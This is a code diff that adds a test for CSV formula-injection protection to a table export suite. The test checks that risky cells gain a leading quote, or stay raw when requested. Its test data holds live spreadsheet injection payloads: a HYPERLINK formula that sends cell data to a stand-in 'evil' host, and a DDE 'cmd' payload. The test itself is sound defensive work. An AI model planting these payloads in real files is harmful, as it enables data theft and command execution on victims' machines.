@@ -76,6 +76,23 @@ describe('exportTable and importTable through the Files API', () => {
     expect(jobs.body.jobs.map((j: { type: string; status: string }) => [j.type, j.status])).toEqual([['import', 'completed']])
   })
 
+  // Finding 2 of issue 28 (decision 1462): these were written as they are, and a spreadsheet ran them.
+  it('neutralises formula-leading text in a CSV export with a leading quote, and keeps it raw when asked', async () => {
+    await makeTable('formulaTable')
+    const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain']
+    await service.request('POST', '/v1/tables/formulaTable/rows', { body: { rows: hostile.map((name, i) => ({ name, score: -i })) } })
+    const fieldsOf = async (query: Record<string, unknown>): Promise<string[][]> => {
+      const exported = await service.request('GET', '/v1/tables/formulaTable/export', { query: { format: 'csv', compress: false, ...query } })
+      expect(exported.status, exported.text).toBe(200)
+      const job = await settled('formulaTable', exported.body.job.id)
+      expect(job['status']).toBe('completed')
+      const { parseCsv } = await import('../../server/src/transfer/index.js')
+      return parseCsv((await download(job['outputFileId'])).toString('utf8')).slice(1).map((record) => [record[3]!.text, record[4]!.text])
+    }
+    expect(await fieldsOf({})).toEqual(hostile.map((name, i) => [name === 'plain' ? name : `'${name}`, String(-i)]))
+    expect(await fieldsOf({ rawFormulas: true })).toEqual(hostile.map((name, i) => [name, String(-i)]))
+  })
+
   it('exports gzipped JSON with the schema by default', async () => {
     await makeTable('jsonTable')
     await service.request('POST', '/v1/tables/jsonTable/rows', { body: { rows: [{ name: 'x', score: 3 }] } })
